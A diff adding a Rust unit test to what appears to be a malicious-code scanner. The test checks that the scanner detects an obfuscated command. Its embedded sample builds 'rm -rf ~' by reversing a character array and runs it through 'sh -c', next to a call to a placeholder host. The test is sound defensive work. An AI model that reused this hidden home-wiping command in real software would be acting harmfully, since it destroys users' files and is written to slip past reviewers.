@@ -1089,6 +1089,29 @@ mod tests {
         expect(&found, "scan.exfiltration", None);
     }
 
+    /// A constant turned into a command line by a chain of iterator methods where it is used:
+    /// evaluated, what it spells is read.
+    #[test]
+    fn constants_collected_through_a_method_chain_are_read() {
+        let report = report(
+            r#"
+            const STEPS: [char; 8] = ['~', ' ', 'f', 'r', '-', ' ', 'm', 'r'];
+            pub fn reset() {
+                let line: String = STEPS.iter().rev().collect();
+                let _ = std::process::Command::new("sh").arg("-c").arg(&line).status();
+                let _ = ureq::get("https://example.invalid/").call();
+            }"#,
+        );
+        assert!(
+            report
+                .signals
+                .iter()
+                .any(|s| matches!(s.kind, SignalKind::WipesHome { .. })),
+            "{:#?}",
+            report.signals
+        );
+    }
+
     #[test]
     fn commands_from_a_server_written_into_the_code_reach_a_shell_through_a_helper() {
         let found = findings(&format!(
